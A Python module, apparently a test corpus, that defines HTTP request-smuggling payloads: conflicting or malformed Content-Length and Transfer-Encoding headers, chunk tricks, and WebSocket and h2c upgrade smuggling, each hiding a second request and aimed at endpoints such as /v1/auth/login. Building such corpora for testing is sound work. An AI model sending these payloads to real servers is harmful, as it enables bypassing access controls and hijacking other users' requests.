"""Requests with another request hidden in them: each is HTTP that servers have read in two ways."""

HIDDEN = b"GET /metrics?hidden HTTP/1.1\r\nHost: x\r\n\r\n"
SIZE = len(HIDDEN)

_CHUNKED_HIDDEN = b"%x\r\n%s\r\n0\r\n\r\n" % (SIZE, HIDDEN)
_ENDED_HIDDEN = b"0\r\n\r\n" + HIDDEN

# The headers about a body, and the bytes that follow the head.
BODIES: dict[str, tuple[bytes, bytes]] = {
    "CL before TE": (b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (SIZE + 5), _ENDED_HIDDEN),
    "TE before CL": (b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "CL of nothing, then TE": (b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", _CHUNKED_HIDDEN),
    "two CLs": (b"Content-Length: 0\r\nContent-Length: %d\r\n" % SIZE, HIDDEN),
    "two CLs, reversed": (b"Content-Length: %d\r\nContent-Length: 0\r\n" % SIZE, HIDDEN),
    "two equal CLs": (b"Content-Length: %d\r\n" % SIZE * 2, HIDDEN),
    "a list of CLs": (b"Content-Length: 0, %d\r\n" % SIZE, HIDDEN),
    "a signed CL": (b"Content-Length: +%d\r\n" % SIZE, HIDDEN),
    "a negative CL": (b"Content-Length: -1\r\n", HIDDEN),
    "a hexadecimal CL": (b"Content-Length: 0x%x\r\n" % SIZE, HIDDEN),
    "a CL too large for a number": (b"Content-Length: 18446744073709551616\r\n", HIDDEN),
    "a CL with an underscore": (b"Content_Length: %d\r\n" % SIZE, HIDDEN),
    "a CL with a space": (b"Content-Length : %d\r\n" % SIZE, HIDDEN),
    "a folded CL": (b"X-Folded: a\r\n Content-Length: %d\r\n" % SIZE, HIDDEN),
    "a CL behind a bare CR": (b"X-Bare: a\rContent-Length: %d\r\n" % SIZE, HIDDEN),
    "an unknown TE": (b"Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "an unknown TE alone": (b"Transfer-Encoding: xchunked\r\n", _CHUNKED_HIDDEN),
    "TE identity": (b"Transfer-Encoding: identity\r\nContent-Length: 0\r\n", _CHUNKED_HIDDEN),
    "two TEs": (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", _CHUNKED_HIDDEN),
    "a list of TEs": (b"Transfer-Encoding: identity, chunked\r\n", _CHUNKED_HIDDEN),
    "a quoted TE": (b'Transfer-Encoding: "chunked"\r\nContent-Length: 0\r\n', _CHUNKED_HIDDEN),
    "a TE with a tab": (b"Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "a TE with a vertical tab": (b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "a TE with a space": (b"Transfer-Encoding : chunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "a folded TE": (b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "a TE with an underscore": (b"Transfer_Encoding: chunked\r\nContent-Length: 4\r\n", _CHUNKED_HIDDEN),
    "behind the last chunk": (b"Transfer-Encoding: chunked\r\n", _ENDED_HIDDEN),
    "a chunk too large for a number": (b"Transfer-Encoding: chunked\r\n", b"10000000000000001\r\n" + HIDDEN),
    "a chunk with a sign": (b"Transfer-Encoding: chunked\r\n", b"-1\r\n\r\n" + HIDDEN),
    "a chunk with LF alone": (b"Transfer-Encoding: chunked\r\n", b"1\nx\n0\n\n" + HIDDEN),
    "a chunk with an extension": (b"Transfer-Encoding: chunked\r\n", b"1;a=\n" + HIDDEN + b"\r\nx\r\n0\r\n\r\n"),
    "a trailer": (b"Transfer-Encoding: chunked\r\n", b"0\r\nContent-Length: %d\r\n\r\n" % SIZE + HIDDEN),
    "an expectation": (b"Expect: 100-continue\r\nContent-Length: %d\r\n" % SIZE, HIDDEN),
    "an honest body": (b"Content-Length: %d\r\n" % SIZE, HIDDEN),
    "no body": (b"", HIDDEN),
}

_SOCKET = b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n"
_UPGRADE = b"Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
_SIZED = b"Content-Length: %d\r\n\r\n" % SIZE + HIDDEN
_HTTP2 = b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

UPGRADES: dict[str, bytes] = {
    "behind an upgrade": _SOCKET + _UPGRADE + b"\r\n" + HIDDEN,
    "behind an upgrade of another version": _SOCKET + _UPGRADE.replace(b"13", b"777") + b"\r\n" + HIDDEN,
    "behind an upgrade without a key": _SOCKET + b"Upgrade: websocket\r\n\r\n" + HIDDEN,
    "behind an upgrade of nobody": _SOCKET.replace(b"=4", b"=4&sid=a.b") + _UPGRADE + b"\r\n" + HIDDEN,
    "behind an upgrade to HTTP/2": _SOCKET + _HTTP2 + HIDDEN,
    "behind an upgrade of the API": b"GET /v1/feed HTTP/1.1\r\nHost: x\r\n" + _UPGRADE + b"\r\n" + HIDDEN,
    "in the body of an upgrade": _SOCKET + _UPGRADE + _SIZED,
    "in the chunks of an upgrade": _SOCKET + _UPGRADE + b"Transfer-Encoding: chunked\r\n\r\n" + _CHUNKED_HIDDEN,
    "in a POST that upgrades": _SOCKET.replace(b"GET", b"POST") + _UPGRADE + _SIZED,
}

ATTACKS: dict[str, bytes] = UPGRADES | {
    f"{name}, {method} {path}": f"{method} {path} HTTP/1.1\r\nHost: x\r\n".encode() + said + b"\r\n" + sent
    for name, (said, sent) in BODIES.items()
    for method, path in [
        ("POST", "/v1/auth/login"),
        ("GET", "/v1/feed"),
        ("POST", "/v1/media"),
        ("POST", "/socket.io/?EIO=4&transport=polling"),
        ("GET", "/socket.io/?EIO=4&transport=polling"),
    ]
}
